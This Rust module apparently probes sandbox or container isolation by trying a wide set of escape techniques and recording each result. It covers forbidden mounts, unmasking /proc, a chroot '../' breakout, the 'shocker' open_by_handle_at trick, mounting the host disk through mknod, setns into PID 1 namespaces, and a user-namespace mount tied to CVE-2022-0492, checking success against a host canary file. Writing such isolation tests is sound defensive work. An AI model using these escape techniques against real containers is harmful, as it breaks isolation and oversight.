//! Mounts and roots: taking away what hides parts of proc, mounting the host's filesystems again, leaving the root.

use std::fs;

use crate::{
    Host,
    files::secrets_of_file,
    list, say,
    sys::{c, call, clone, in_child, told},
};

const MS_RDONLY: usize = 1;
const MS_REMOUNT: usize = 32;
const MS_BIND: usize = 4096;
const MS_REC: usize = 16384;
const MS_PRIVATE: usize = 1 << 18;
const OPEN_TREE_CLONE: usize = 1;

pub fn attempts(host: &Host) {
    for (kind, data) in [
        ("proc", ""),
        ("sysfs", ""),
        ("tmpfs", ""),
        ("devpts", "newinstance"),
        ("mqueue", ""),
        ("cgroup", "devices"),
        ("cgroup", "memory"),
        ("cgroup2", ""),
        ("devtmpfs", ""),
        ("debugfs", ""),
        ("securityfs", ""),
        ("bpf", ""),
        ("overlay", "lowerdir=/usr:/etc"),
    ] {
        say(&format!("mount:{kind}:{data}"), &apart(|| mount("none", "/tmp", kind, 0, data)));
    }
    say(
        "mount:fuse",
        &apart(|| mount("none", "/tmp", "fuse", 0, "fd=0,rootmode=40000,user_id=0,group_id=0")),
    );
    say("bind:/proc", &apart(|| mount("/proc", "/tmp", "", MS_BIND, "")));
    say("bind:/", &apart(|| mount("/", "/tmp", "", MS_BIND | MS_REC, "")));
    for path in ["/proc/sys", "/proc/sysrq-trigger", "/sys", "/escape", "/usr", "/"] {
        say(&format!("remount:{path}"), &apart(|| mount("", path, "", MS_REMOUNT | MS_BIND, "")));
    }
    let tmpfs = || mount("none", "/proc", "tmpfs", MS_RDONLY, "");
    say("mount-over:/proc", &apart(tmpfs));
    for path in ["/proc/kcore", "/proc/sys", "/proc/sysrq-trigger", "/proc", "/sys", "/dev"] {
        // MNT_DETACH
        say(&format!("umount:{path}"), &apart(|| told(call!(libc::SYS_umount2, &c(path), 2))));
    }
    say("open-tree", &apart(open_tree));
    say(
        "open-tree-attr",
        &apart(|| told(call!(467, libc::AT_FDCWD, &c("/proc"), OPEN_TREE_CLONE, 0, 0))),
    );
    say("move-mount", &apart(move_mount));
    say("mount-setattr", &apart(mount_setattr));
    say("fsopen", &apart(|| told(call!(libc::SYS_fsopen, &c("proc"), 0))));
    say("fspick", &apart(|| told(call!(libc::SYS_fspick, libc::AT_FDCWD, &c("/proc"), 0))));
    let dot = c(".");
    say("pivot-root", &apart(|| told(call!(libc::SYS_pivot_root, &dot, &dot))));
    say("chroot-breakout", &in_child(|| chroot_breakout(host)));
    say("open-by-handle", &in_child(|| open_by_handle(host)));
    say("host-disk", &apart(|| host_disk(host)));
    namespaces();
    say("user-namespace-then-mount", &in_child(user_namespace_then_mount));
}

/// An attempt in a mount namespace of its own, where this process may make one.
fn apart(attempt: impl FnOnce() -> String) -> String {
    in_child(|| {
        if call!(libc::SYS_unshare, libc::CLONE_NEWNS).is_ok() {
            mount("none", "/", "", MS_REC | MS_PRIVATE, "");
        }
        attempt()
    })
}

fn mount(source: &str, target: &str, kind: &str, flags: usize, data: &str) -> String {
    let (source, target, kind, data) = (c(source), c(target), c(kind), c(data));
    told(call!(libc::SYS_mount, &source, &target, &kind, flags, &data))
}

fn open_tree() -> String {
    told(call!(libc::SYS_open_tree, libc::AT_FDCWD, &c("/proc"), OPEN_TREE_CLONE))
}

/// A mask taken elsewhere.
fn move_mount() -> String {
    let (from, to) = (c("/proc/kcore"), c("/dev/null"));
    told(call!(libc::SYS_move_mount, libc::AT_FDCWD, &from, libc::AT_FDCWD, &to, 0))
}

/// `struct mount_attr` that clears MOUNT_ATTR_RDONLY.
fn mount_setattr() -> String {
    let attributes: Vec<u8> = [0u64, 1, 0, 0].iter().flat_map(|n| n.to_ne_bytes()).collect();
    let path = c("/proc/sys");
    told(call!(libc::SYS_mount_setattr, libc::AT_FDCWD, &path, 0, &attributes[..], 32usize))
}

/// As chroot(2) itself warns: a root below the working directory, which `..` then leads out of.
fn chroot_breakout(host: &Host) -> String {
    let _ = fs::create_dir("/tmp/escape-root");
    if let Err(errno) = call!(libc::SYS_chroot, &c("/tmp/escape-root")) {
        return crate::sys::name(errno);
    }
    let up = "../".repeat(20);
    let _ = call!(libc::SYS_chdir, &c(&up));
    let _ = call!(libc::SYS_chroot, &c("."));
    list(secrets_of_file(&host.canary))
}

/// "shocker": the root of the host's filesystem by its inode, through any file of it.
fn open_by_handle(host: &Host) -> String {
    let mut answers = Vec::new();
    for place in ["/escape", "/target/escape", "/usr", "/etc/hosts"] {
        let Ok(fd) = call!(libc::SYS_open, &c(place), 0) else { continue };
        // struct file_handle: FILEID_INO32_GEN, inode 2, generation 0.
        let mut handle = Vec::new();
        for number in [8u32, 1, 2, 0] {
            handle.extend(number.to_ne_bytes());
        }
        let flags = libc::O_DIRECTORY;
        match call!(libc::SYS_open_by_handle_at, fd, &handle[..], flags) {
            Ok(root) => {
                let path = format!("/proc/self/fd/{root}{}", host.canary);
                answers.extend(secrets_of_file(&path));
                answers.push("ok".to_owned());
            }
            Err(errno) => answers.push(crate::sys::name(errno)),
        }
    }
    list(answers)
}

/// The host's disk, mounted by a node for it.
fn host_disk(host: &Host) -> String {
    let Some((_, major, minor)) = host.devices.iter().find(|(kind, ..)| *kind == 'b') else {
        return "none".to_owned();
    };
    let mode = libc::S_IFBLK | 0o600;
    let device = libc::makedev(*major, *minor) as usize;
    let made = call!(libc::SYS_mknodat, libc::AT_FDCWD, &c("/tmp/disk"), mode as usize, device);
    let answer = mount("/tmp/disk", "/mnt", "ext4", MS_RDONLY, "");
    let _ = fs::remove_file("/tmp/disk");
    if made.is_err() { told(made) } else { answer }
}

fn namespaces() {
    for (name, flag) in [
        ("user", libc::CLONE_NEWUSER),
        ("mnt", libc::CLONE_NEWNS),
        ("pid", libc::CLONE_NEWPID),
        ("net", libc::CLONE_NEWNET),
        ("uts", libc::CLONE_NEWUTS),
        ("ipc", libc::CLONE_NEWIPC),
        ("cgroup", libc::CLONE_NEWCGROUP),
        ("time", 0x80),
    ] {
        let unshare = || told(call!(libc::SYS_unshare, flag));
        say(&format!("unshare:{name}"), &in_child(unshare));
        if name != "time" {
            say(&format!("clone:{name}"), &in_child(|| told(clone(flag))));
        }
        let file = if name == "time" { "time_for_children" } else { name };
        say(&format!("setns:{name}"), &in_child(|| set_namespace(file)));
    }
    // A structure that is too short: it is looked at first where the call is there at all.
    say("clone3", &in_child(|| told(call!(libc::SYS_clone3, &[0u8; 8][..], 8usize))));
}

fn set_namespace(name: &str) -> String {
    match call!(libc::SYS_open, &c(&format!("/proc/1/ns/{name}")), 0) {
        Ok(fd) => told(call!(libc::SYS_setns, fd, 0)),
        // The call is asked all the same.
        Err(_) => told(call!(libc::SYS_setns, -1, 0)),
    }
}

/// What a fresh user namespace is for: all capabilities in it, and with them mounts (CVE-2022-0492).
fn user_namespace_then_mount() -> String {
    let unshared = call!(libc::SYS_unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNS);
    if unshared.is_err() {
        return told(unshared);
    }
    let answers =
        ["tmpfs", "cgroup", "overlay", "proc"].map(|kind| mount("none", "/tmp", kind, 0, ""));
    format!("unshared-{}", answers.join("-"))
}
